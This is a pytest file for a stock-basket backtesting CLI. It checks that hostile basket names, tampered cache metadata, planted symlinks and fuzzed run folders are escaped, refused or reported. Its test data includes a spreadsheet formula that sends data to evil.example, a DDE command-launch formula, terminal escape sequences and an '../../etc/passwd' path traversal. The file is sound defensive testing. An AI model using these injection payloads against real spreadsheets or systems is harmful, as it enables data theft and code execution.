"""Hostile files: what a shared basket, price file, cache or run folder holds cannot hang,
crash, overwrite or mislead.

Bad inputs that give one clear line are rows of ``tests/test_errors.py`` (and
``tests/ERRORS.md``, which also lists by name the tests here); this file holds what a row cannot
express: run folders and caches tampered with field by field or fuzzed, files basket writes
(spreadsheet formulas, markup, escapes), links, and inputs that must be accepted (``1e-3`` as a
number, ``Adj Close``).
"""

from __future__ import annotations

import os
import re
import shutil
from pathlib import Path

import pytest
from conftest import make_sine_project, only_run, run_folders, write_yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from engine.config.baskets import load_basket
from engine.config.studies import load_study
from engine.results.reader import MANIFEST_SCHEMA


@pytest.fixture(scope="module")
def made_run(tmp_path_factory) -> Path:
    """One real run folder, written by ``basket run``; tests copy it before tampering."""
    from click.testing import CliRunner

    from cli import main

    root = tmp_path_factory.mktemp("hostile")
    project = make_sine_project(root)
    result = CliRunner().invoke(main, [
        "run", str(project["basket"]), "--study", str(project["study"]),
        "--prices", str(project["prices"]), "--out", str(root / "results"), "--name", "good",
    ])
    assert result.exit_code == 0, result.output
    folder = only_run(root / "results")
    return folder


@pytest.fixture
def run_copy(made_run, tmp_path) -> Path:
    """A copy of the module's run folder under ``tmp_path/results``."""
    target = tmp_path / "results" / made_run.name
    shutil.copytree(made_run, target)
    return target


# -- YAML numbers and words ----------------------------------------------------------------------


def test_exponent_numbers_are_numbers(tmp_path):
    """YAML 1.1 reads ``5e-1`` (no dot) as text; YAML 1.2 and JSON as 0.5."""
    basket = load_basket(write_yaml(tmp_path / "b.yaml", (
        "name: B\nconstituents:\n  - {symbol: AAA, weight: 5e-1}\n  - {symbol: BBB, weight: 5E-1}\n"
    )))
    assert basket.weights == {"AAA": 0.5, "BBB": 0.5}
    study = load_study(write_yaml(tmp_path / "s.yaml", "name: S\nbenchmark: ^IXIC\nfees: 1e-3\n"))
    assert study.fees == 0.001


def test_quoted_yaml_words_are_text(tmp_path):
    basket = load_basket(write_yaml(tmp_path / "b.yaml", (
        "name: 'YES'\nconstituents:\n  - symbol: 'ON'\n  - symbol: \"NO\"\n"
    )))
    assert basket.name == "YES" and basket.symbols == ["ON", "NO"]


# -- names that are formulas, markup or escape sequences -------------------------------------------

#: Basket names a hostile file may hold: spreadsheet formulas, rich markup, terminal escapes,
#: Markdown cell breakers.
NAMES = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+2",
    "markup": "Chips [/red] [link=file:///etc/passwd]x[/link]",
    "escapes": "Esc\x1b]0;pwned\x07\x1b[2J",
    "markdown": "a | b\nc",
}


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    """``basket run`` of one basket per hostile name, on a terminal (rich tables)."""
    from click.testing import CliRunner

    import cli

    root = tmp_path_factory.mktemp("names")
    project = make_sine_project(root)
    files = []
    for key, name in NAMES.items():
        quoted = name.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
        quoted = quoted.replace("\x1b", "\\e").replace("\x07", "\\a")
        files.append(str(write_yaml(root / f"{key}.yaml", (
            f'name: "{quoted}"\nconstituents: [{{symbol: AAA, name: "{quoted}"}}]\n'
        ))))
    args = ["run", *files, "--study", str(project["study"]), "--prices", str(project["prices"])]
    runner = CliRunner()
    terminal = pytest.MonkeyPatch()
    terminal.setattr(cli, "_is_terminal", lambda: True)
    try:
        table = runner.invoke(cli.main, [*args, "--out", str(root / "results")])
    finally:
        terminal.undo()
    as_csv = runner.invoke(cli.main, [*args, "--out", str(root / "results"), "--format", "csv"])
    (folder, _) = run_folders(root / "results")
    return {"table": table, "csv": as_csv, "folder": folder}


@pytest.mark.parametrize("table", ["summary.csv", "attribution.csv", "equity.csv"])
def test_no_csv_cell_is_a_spreadsheet_formula(hostile_run, table):
    import csv

    with open(hostile_run["folder"] / table, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    formulas += [c for c in cells if c.startswith("-") and not _is_number(c)]
    assert formulas == [], formulas
    assert "'" + NAMES["formula"] in cells and "'" + NAMES["dde"] in cells


def test_csv_output_escapes_formulas_too(hostile_run):
    result = hostile_run["csv"]
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert not [line for line in lines if line[:1] in "=+@"]
    assert any(line.startswith("'=cmd|") for line in lines)


def test_run_folder_reads_the_names_back_unchanged(hostile_run):
    from engine.results.reader import load_run

    run = load_run(hostile_run["folder"])
    assert set(NAMES.values()) <= set(run.summary.index)


def test_terminal_table_prints_names_as_text_without_escapes(hostile_run):
    result = hostile_run["table"]
    assert result.exit_code == 0, result.output
    assert "MarkupError" not in result.output
    assert "\x1b]0;" not in result.stdout and "\x1b[2J" not in result.stdout
    assert "\x07" not in result.stdout + result.stderr
    assert "Chips [/red]" in result.stdout  # shown as written, not taken as markup
    assert "\x1b]8;" not in result.stdout  # no hyperlink escape (rich's [link])


def test_summary_md_keeps_one_row_per_basket(hostile_run):
    text = (hostile_run["folder"] / "summary.md").read_text(encoding="utf-8")
    tables = [block.splitlines() for block in text.split("\n\n") if block.startswith("|")]
    assert tables
    for lines in tables:
        assert len(lines) == 2 + len(NAMES) + 1  # header, rule, baskets, benchmark
        cells = [len(re.split(r"(?<!\\)\|", line)) for line in lines]
        assert set(cells) == {cells[0]}, lines
    assert "| a \\| b\\x0ac |" in text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- cache metadata ------------------------------------------------------------------------------


@pytest.fixture
def cache(tmp_path):
    """A price cache holding AAA, BBB and ^IXIC, imported from generated CSV files."""
    from engine.data.cache import PriceCache

    project = make_sine_project(tmp_path / "project")
    cache = PriceCache(tmp_path / "cache")
    assert cache.import_folder(project["prices"]).problems == {}
    return cache


@pytest.mark.parametrize(
    "metadata, why",
    [
        pytest.param("[]", "metadata is list, not a JSON object", id="list"),
        pytest.param("null", "metadata is NoneType, not a JSON object", id="null"),
        pytest.param("[" * 100_000 + "]" * 100_000, "unreadable metadata", id="deep"),
        pytest.param('{"symbol": "AAA"}', "metadata has no 'source'", id="fields-missing"),
        pytest.param("first_date=2025-13-45", "'first_date' is '2025-13-45', not a date",
                     id="bad-date"),
        pytest.param("rows=many", "'rows' is 'many', not a count", id="bad-count"),
        pytest.param("data_file=../../etc/passwd", "is not a file of the cache folder",
                     id="data-file-outside"),
        pytest.param("symbol=BBB", "its metadata names 'BBB'", id="another-symbol"),
    ],
)
def test_one_bad_metadata_file_is_reported_and_the_rest_listed(cli, cache, metadata, why):
    import json

    path = cache.meta_path("AAA")
    if "=" in metadata and not metadata.startswith("["):
        key, value = metadata.split("=", 1)
        raw = json.loads(path.read_text())
        raw[key] = value
        metadata = json.dumps(raw)
    path.write_text(metadata)
    result = cli("data", "--cache", cache.root, "status", "--format", "json")
    assert result.exit_code == 0, result.output
    rows = {row["symbol"]: row for row in json.loads(result.stdout)}
    assert sorted(rows) == ["AAA", "BBB", "^IXIC"]
    assert rows["AAA"]["state"] == "corrupt" and why in rows["AAA"]["message"], rows["AAA"]
    assert str(path) in rows["AAA"]["message"]
    assert rows["BBB"]["state"] != "corrupt" and rows["^IXIC"]["state"] != "corrupt"
    assert "internal error" not in result.stderr


def test_status_table_beside_a_corrupt_entry_shows_counts_as_counts(cli, cache):
    """A corrupt entry has no row count; the others' counts stay whole numbers (not 252.00)."""
    rows = cache.entry("BBB").rows
    cache.meta_path("AAA").write_text("[]")
    result = cli("data", "--cache", cache.root, "status")
    assert result.exit_code == 0, result.output
    (line,) = [line for line in result.stdout.splitlines() if line.startswith("BBB ")]
    assert f" {rows} " in line and ".00" not in result.stdout


# -- report: only basket's folders, never through links ------------------------------------------


def test_report_replaces_a_planted_symlink_and_never_writes_its_target(cli, run_copy, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    for name in ("report.html", ".report.html.tmp"):
        (run_copy / name).unlink(missing_ok=True)
        (run_copy / name).symlink_to(victim)
    result = cli("report", run_copy)
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "precious\n"
    assert not (run_copy / "report.html").is_symlink()
    assert "<html" in (run_copy / "report.html").read_text()


def test_report_never_embeds_a_file_linked_from_outside(cli, run_copy, tmp_path):
    secret = tmp_path / "secret.csv"
    secret.write_text("date,SECRET-BASKET\n2025-01-02,1\n")
    (run_copy / "equity.csv").unlink()
    (run_copy / "equity.csv").symlink_to(secret)
    result = cli("report", run_copy)
    assert result.exit_code == 0, result.output
    assert "SECRET-BASKET" not in (run_copy / "report.html").read_text()


# -- run folders that are damaged or hostile -----------------------------------------------------


@pytest.mark.parametrize(
    "change, why",
    [
        pytest.param({"period": "x"}, "field 'period' is \"x\", not a mapping or null",
                     id="period-text"),
        pytest.param({"baskets": 5}, "field 'baskets' is 5, not a list", id="baskets-number"),
        pytest.param({"period": {"sessions": "many"}}, "field 'period.sessions' is \"many\"",
                     id="sessions-text"),
        pytest.param({"created_at": "yesterday"}, "field 'created_at' is not an ISO time",
                     id="created-at"),
        pytest.param({"baskets": [{"a": 1}]}, "field 'baskets' must hold text items",
                     id="baskets-maps"),
    ],
)
def test_one_malformed_manifest_is_listed_broken_and_the_others_listed(cli, run_copy, made_run,
                                                                       change, why):
    import json

    shutil.copytree(made_run, run_copy.parent / "zz-good")
    manifest = json.loads((run_copy / "manifest.json").read_text())
    (run_copy / "manifest.json").write_text(json.dumps({**manifest, **change}))
    result = cli("runs", "--out", run_copy.parent, "--format", "json")
    assert result.exit_code == 0, result.output
    rows = {row["id"]: row for row in json.loads(result.stdout)}
    assert rows[run_copy.name]["status"] == "broken" and why in rows[run_copy.name]["note"]
    assert rows["zz-good"]["status"] == "ok"
    assert "internal error" not in result.stderr


def test_run_folders_follow_the_umask(made_run):
    import stat

    mode = stat.S_IMODE(made_run.stat().st_mode)
    assert mode == 0o777 & ~_umask(), oct(mode)


def _umask() -> int:
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


# -- fuzz: whatever a run folder or a cache entry holds, no internal error -----------------------

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=12),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner,
                                                                max_size=4),
    max_leaves=12,
)


@settings(derandomize=True, max_examples=80, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(change=st.dictionaries(st.sampled_from(sorted(MANIFEST_SCHEMA) + ["period"]), JSON,
                              max_size=4),
       config=st.one_of(st.none(), JSON, st.dictionaries(
           st.sampled_from(["study", "baskets", "event_study"]), JSON, max_size=3)))
def test_fuzzed_run_folders_never_give_an_internal_error(made_run, tmp_path_factory, change,
                                                         config):
    import json

    import yaml

    from engine.errors import BasketError
    from engine.results.compare import compare_runs
    from engine.results.reader import list_runs, load_run
    from engine.results.runs_display import render_comparison

    out = tmp_path_factory.mktemp("fuzz")
    folder = out / made_run.name
    shutil.copytree(made_run, folder)
    manifest = json.loads((folder / "manifest.json").read_text())
    (folder / "manifest.json").write_text(json.dumps({**manifest, **change}))
    if config is not None:
        (folder / "config.yaml").write_text(yaml.safe_dump(config))
    rows = list_runs(out)
    assert len(rows) == 1
    try:
        runs = [load_run(folder), load_run(made_run)]
        for fmt in ("table", "csv", "json", "markdown"):
            render_comparison(compare_runs(runs), fmt)
    except BasketError:
        assert rows[0]["status"] == "broken"


@settings(derandomize=True, max_examples=80, deadline=None)
@given(metadata=st.one_of(JSON, st.fixed_dictionaries({}, optional={
    "symbol": JSON | st.just("AAA"), "first_date": JSON | st.just("2025-01-02"),
    "rows": JSON, "data_file": JSON | st.just("AAA.parquet"), "sha256": JSON,
})))
def test_fuzzed_cache_metadata_never_gives_an_internal_error(tmp_path_factory, metadata):
    import json

    from engine.data.cache import PriceCache
    from engine.data.store import status

    cache = PriceCache(tmp_path_factory.mktemp("cache"))
    cache.folder.mkdir(parents=True)
    (cache.folder / "AAA.json").write_text(json.dumps(metadata))
    (report,) = status(cache).rows
    assert report.symbol == "AAA" and report.state == "corrupt"


def test_prices_reads_yfinance_adj_close_header(tmp_path):
    """``Adj Close`` (yfinance's spelling) is the adjusted close, not an ignored column."""
    from engine.data.csvfolder import CsvFolderSource

    folder = tmp_path / "prices"
    folder.mkdir()
    (folder / "QQQ.csv").write_text(
        "Date,Close,Adj Close\n2025-01-02,100,50\n2025-01-03,110,60\n"
    )
    history = CsvFolderSource(folder).read("QQQ")
    assert list(history.closes()) == [50.0, 60.0]  # 60/50 - 1 = 20 %, not 110/100 - 1 = 10 %


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_standard_output_on_a_full_device_is_one_line_and_exit_1(tmp_path):
    """``basket list > /dev/full``: the write fails; one line on stderr, no traceback."""
    import subprocess
    import sys

    from conftest import PROJECT

    write_yaml(tmp_path / "baskets" / "b.yaml", "name: B\nconstituents:\n  - symbol: AAA\n")
    with open("/dev/full", "w") as full:
        done = subprocess.run([sys.executable, str(PROJECT / "cli.py"), "list"], cwd=tmp_path,
                              stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
    assert done.returncode == 1
    assert done.stderr == "Error: standard output cannot be written (No space left on device)\n"


def test_huge_custom_weights_are_normalised_without_overflow(tmp_path):
    """1e308 + 1e308 overflows a plain sum; normalised relative to the largest it is 1/2, 1/2."""
    path = write_yaml(tmp_path / "b.yaml", "name: B\nnormalize: true\nconstituents:\n"
                      "  - {symbol: AAA, weight: 1e308}\n  - {symbol: BBB, weight: 3e307}\n")
    weights = [c.weight for c in load_basket(path).constituents]
    assert weights == pytest.approx([1 / 1.3, 0.3 / 1.3], rel=1e-15)  # 1e308 : 3e307 = 1 : 0.3


def test_a_price_file_of_exactly_the_size_limit_is_read(tmp_path, monkeypatch):
    """The refusal of a larger file is the row ``price-file-too-large`` of tests/ERRORS.md."""
    from engine.data.csvfolder import CsvFolderSource

    (tmp_path / "AMD.csv").write_text("date,close\n2025-01-02,1\n")  # 25 bytes
    monkeypatch.setenv("BASKET_MAX_PRICE_FILE_MB", "25e-6")
    assert list(CsvFolderSource(tmp_path).read("AMD").closes()) == [1.0]


def test_running_out_of_memory_is_one_line_and_exit_1(cli, tmp_path, monkeypatch):
    """A request this machine cannot hold (``sweep --random`` near its cap, say) is a run-time
    limit, reported as such: never an "internal error"."""
    import engine.config.claims

    def exhausted(*args, **kwargs):
        raise MemoryError("Unable to allocate 67.1 GiB for an array with shape (1000000000, 9)")

    monkeypatch.setattr(engine.config.claims, "validate_any", exhausted)
    result = cli("validate", write_yaml(tmp_path / "b.yaml", "name: B\n"))
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: not enough memory (Unable to allocate 67.1 GiB for an array with shape "
        "(1000000000, 9)) (hint: ask for less: fewer random baskets (--random), symbols or "
        "sessions)\n"
    )
